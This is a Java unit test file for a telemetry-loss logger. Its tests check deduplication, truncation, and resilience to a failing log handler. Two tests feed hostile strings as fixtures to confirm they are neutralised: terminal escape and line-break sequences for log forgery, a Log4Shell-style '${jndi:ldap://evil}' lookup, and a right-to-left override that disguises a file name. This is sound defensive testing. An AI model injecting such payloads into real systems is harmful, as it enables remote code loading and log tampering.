// SPDX-FileCopyrightText: The Waybill Authors
// SPDX-License-Identifier: Apache-2.0
package dev.waybill.runtime;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class LostTelemetryTest {
    private final LogLines lines = new LogLines();

    @AfterEach
    void stopListening() {
        lines.close();
    }

    @Test
    void aLineTellsWhatWasLostAndWhy() {
        new LostTelemetry().report("start the span", new IllegalStateException("exporter gone"));

        assertThat(lines.all())
                .containsExactly("Telemetry of a message was lost, the message was not: could not start the span"
                        + " (java.lang.IllegalStateException: exporter gone); 0 more since the last line");
    }

    @Test
    void aFaultInEveryMessageIsToldOnce() {
        LostTelemetry lost = new LostTelemetry();
        for (int i = 0; i < 1000; i++) {
            lost.report("start the span", new IllegalStateException("exporter gone"));
        }

        assertThat(lines.all()).hasSize(1);
    }

    @Test
    void whatAnAttackerMayHaveWrittenIsMadeHarmless() {
        new LostTelemetry().report("read", new IllegalStateException("\u001b[31mfake\r\nline " + "x".repeat(10_000)));

        assertThat(lines.all())
                .singleElement()
                .satisfies(
                        line -> assertThat(line).contains("?[31mfake??line xxx").hasSizeLessThan(400));
    }

    /** Some frameworks look names up in what they log, and some terminals turn the text around. */
    @Test
    void nothingThatALogCouldObeyIsLogged() {
        new LostTelemetry()
                .report("read", new IllegalStateException("${jndi:ldap://evil} \u202egnp.exe\u2028 \u00fcml\u00e4ut"));

        assertThat(lines.all()).singleElement().asString().contains("?{jndi:ldap://evil} ?gnp.exe? \u00fcml\u00e4ut");
    }

    @Test
    void aLogThatThrowsIsNotNoticed() {
        Handler broken = new Handler() {
            @Override
            public void publish(LogRecord line) {
                throw new StackOverflowError("log");
            }

            @Override
            public void flush() {}

            @Override
            public void close() {}
        };
        Logger.getLogger("dev.waybill").addHandler(broken);
        try {
            new LostTelemetry().report("start the span", new IllegalStateException());
            assertThat(lines.all()).hasSize(1);
        } finally {
            Logger.getLogger("dev.waybill").removeHandler(broken);
        }
    }
}
